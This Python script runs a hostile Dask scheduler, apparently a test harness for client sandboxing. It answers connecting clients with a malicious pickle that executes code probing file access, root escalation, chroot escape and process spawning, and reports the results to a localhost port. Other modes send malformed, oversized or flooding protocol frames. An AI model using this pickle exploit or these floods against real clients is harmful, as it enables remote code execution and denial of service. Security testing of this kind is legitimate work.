"""A Dask scheduler that attacks whoever connects (`python hostile_scheduler.py MODE SEED`); prints its port.

`pickle` answers the first question with a pickle; what that does, and which rights it had, it reports on a second port.
The other modes answer oddly: see `PIECES`.
"""

import asyncio
import contextlib
import json
import os
import random
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterable, Iterator

PAYLOAD = """
import json, os, socket
seen = {{"uids": os.getresuid(), "groups": os.getgroups()}}
def attempt(name, work):
    try:
        work()
        seen[name] = "done"
    except BaseException as error:
        seen[name] = type(error).__name__
for name, path in {paths!r}.items():
    attempt("read " + name, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read())
    attempt("write " + name, lambda: open(path + "-mark", "w").write("x"))
attempt("kill the parent", lambda: os.kill(os.getppid(), 0))
attempt("become root", lambda: os.setuid(0))
attempt("leave the folder", lambda: (os.chroot("."), os.chdir("../../..")))
attempt("a gigabyte", lambda: bytearray(1 << 30))
def run():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", "600"])
        except BaseException:
            import time
            time.sleep(600)
    seen["child"] = pid
attempt("a daemon", run)
targets = []
for fd in range(64):
    try:
        targets.append((os.fstat(fd).st_mode >> 12, fd))
    except OSError:
        pass
seen["files"] = [fd for kind, fd in targets if fd > 2 and kind in (4, 8)]
with socket.create_connection(("127.0.0.1", {port}), 5) as wire:
    wire.sendall(json.dumps(seen).encode())
"""


class Evil:
    """An object whose unpickling runs a program."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return exec, (self.code, {})


def main(mode: str, seed: int, paths: dict[str, str]) -> None:
    if mode == "pickle":
        serve_pickle(paths)
    else:
        serve_oddly(mode, random.Random(seed))


def serve_pickle(paths: dict[str, str]) -> None:
    from distributed.core import Server
    from distributed.protocol import to_serialize

    reports = socket.create_server(("127.0.0.1", 0))
    code = PAYLOAD.format(paths=paths, port=reports.getsockname()[1])

    def report() -> None:
        while True:
            wire, _ = reports.accept()
            with wire:
                print("REPORT", wire.makefile().read(), flush=True)

    async def serve() -> None:
        server = Server({"identity": lambda **_: {"workers": to_serialize(Evil(code))}})
        await server.listen("tcp://127.0.0.1:0")
        threading.Thread(target=report, daemon=True).start()
        print("PORT", server.port, flush=True)
        await asyncio.Event().wait()

    asyncio.run(serve())


def serve_oddly(mode: str, rng: random.Random) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    print("PORT", listener.getsockname()[1], flush=True)
    while True:
        wire, _ = listener.accept()
        threading.Thread(target=attack, args=(wire, mode, rng), daemon=True).start()


def attack(wire: socket.socket, mode: str, rng: random.Random) -> None:
    with wire, contextlib.suppress(OSError):
        for piece in PIECES[mode](rng):
            wire.sendall(piece)
        threading.Event().wait(600)


def drip(_: random.Random) -> Iterator[bytes]:
    for byte in struct.pack("<QQQ", 1 << 20, 1, 1 << 19) + b"\x81" * 10_000:
        yield bytes([byte])
        threading.Event().wait(0.3)


def flood(_: random.Random) -> Iterator[bytes]:
    while True:
        yield struct.pack("<QQ", 1 << 40, 1) + b"\x81" * 65_536


def nonsense(rng: random.Random) -> Iterator[bytes]:
    """Whole messages of Dask's that mean nothing, then silence."""
    from distributed.protocol import dumps

    odd = [None, [], {}, "x" * 1000, [[[]]], {"op": 7}, 3.5, {"workers": 3}, [{"op": "stream-start"}]]
    for _ in range(rng.randrange(1, 20)):
        frames = [bytes(frame) for frame in dumps(rng.choice(odd))]
        head = struct.pack(f"<Q{len(frames)}Q", len(frames), *map(len, frames))
        yield struct.pack("<Q", len(head) + sum(map(len, frames))) + head + b"".join(frames)


PIECES: dict[str, Callable[[random.Random], Iterable[bytes]]] = {
    "garbage": lambda rng: [rng.randbytes(rng.randrange(1, 200_000))],
    "huge": lambda _: [struct.pack("<QQQ", 1 << 62, 1, 1 << 62)],
    "many": lambda _: [struct.pack("<QQ", 1 << 30, 1 << 27) + b"\0" * (1 << 20)],
    "silent": lambda _: [],
    "drip": drip,
    "flood": flood,
    "nonsense": nonsense,
}


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), json.loads(os.environ.get("PATHS", "{}")))
